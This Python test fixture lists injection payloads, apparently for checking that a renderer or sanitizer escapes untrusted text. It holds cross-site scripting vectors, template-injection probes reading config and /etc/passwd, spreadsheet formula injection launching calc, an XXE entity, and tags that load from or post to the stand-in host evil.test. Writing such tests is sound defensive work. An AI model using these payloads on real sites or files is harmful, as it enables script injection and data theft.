"""Texts that would run, or send something elsewhere, if a page or a file took them for more than text.

Each calls ``pwn()``, a function that the tests put into every page, or asks a host called ``evil.test``.
They are grouped so that a field can hold several at once: what swallows the rest of a page stands last,
what only works at the beginning of a text stands first.
"""

from __future__ import annotations

HOST = "evil.test"

# What a value has to begin with to do harm: addresses, formulas, templates, Markdown.
FIRST = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()//",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "//evil.test/first",
    "\\\\evil.test\\first",
    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "=HYPERLINK(\"https://evil.test/\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "＝1+1",
)

# What does harm wherever it stands.
ANYWHERE = (
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=https://evil.test/x.js></script>",
    "<script/x>pwn()</script>",
    "<<script>pwn();//<</script>",
    "</script><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<img src=x:x onerror=pwn() alt=x>",
    "<img src=https://evil.test/i.png>",
    "<image href=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href=data:,pwn() /></svg>",
    "<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror=pwn()>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<video src=x onerror=pwn()></video>",
    "<audio src=x onerror=pwn()></audio>",
    "<video><source onerror=pwn()></video>",
    "<marquee onstart=pwn()>x</marquee>",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=https://evil.test/></iframe>",
    "<object data=https://evil.test/></object>",
    "<embed src=https://evil.test/>",
    "<form action=https://evil.test/><button>x</button></form>",
    "<a href=javascript:pwn()>x</a>",
    "<a href='java&#115;cript:pwn()'>x</a>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=preload as=image href=https://evil.test/p.png>",
    "<style>@import 'https://evil.test/x.css';*{background:url(https://evil.test/b.png)}</style>",
    "<p style=background:url(https://evil.test/s.png)>x</p>",
    "<table background=https://evil.test/t.png><tr><td>x</td></tr></table>",
    "\" onmouseover=pwn() x=\"",
    "\" autofocus onfocus=pwn() tabindex=0 x=\"",
    "' onmouseover='pwn()' x='",
    "\"><img src=x onerror=pwn()>",
    "'><img src=x onerror=pwn()>",
    "`><img src=x onerror=pwn()>",
    "\"/><script>pwn()</script>",
    "x style=animation-name:a onanimationstart=pwn() ",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "&quot; onload=&quot;pwn()",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=pwn()\\x3e",
    "\";pwn();//",
    "';pwn();//",
    "`-pwn()-`",
    "${pwn()}",
    "</div></main></body><script>pwn()</script>",
    "]]><script>pwn()</script>",
    "?><script>pwn()</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.test/'>]>",
    "<a title=\"<b\"><img src=x onerror=pwn()>",
    "<img alt=\"`\" src=x onerror=pwn()`>",
    "<div data-finder=javascript:pwn() data-index=https://evil.test/i.json>",
    "[x](javascript:pwn())",
    "[x](https://evil.test \"\\\" onmouseover=pwn()\")",
    "![x](https://evil.test/m.png)",
    "<javascript:pwn()>",
    "[x]: javascript:pwn()",
    "<b>bold</b> <i onclick=pwn()>i</i>",
    "BEGIN:VALARM ATTACH:https://evil.test/ END:VALARM",
    ";TZID=evil:x,y\\;z\\n",
)  # fmt: skip

# What would hide all that stands behind it.
LAST = (
    "<!-- <img src=x onerror=pwn()>",
    "--><img src=x onerror=pwn()>",
    "<!--><img src=x onerror=pwn()>",
    "<![CDATA[<img src=x onerror=pwn()>",
    "<textarea><img src=x onerror=pwn()>",
    "</textarea><img src=x onerror=pwn()>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<xmp><img title='</xmp><img src=x onerror=pwn()>'>",
    "<template><img src=x onerror=pwn()></template>",
    "<title><img title='</title><img src=x onerror=pwn()>'>",
    "<select><option><style></option></select><img src=x onerror=pwn()></style>",
)

PAYLOADS = (*FIRST, *ANYWHERE, *LAST)


def groups(number: int) -> list[str]:
    """All payloads as so many texts of one line; none is longer than it must be."""
    first, anywhere, last = (
        [part[index::number] for index in range(number)] for part in (FIRST, ANYWHERE, LAST)
    )
    texts = []
    for index in range(number):
        begin, *rest = first[index] or ("",)
        middle = (*anywhere[index], *rest)
        texts.append(" ".join((begin, *middle, *last[index])).strip())
    return texts
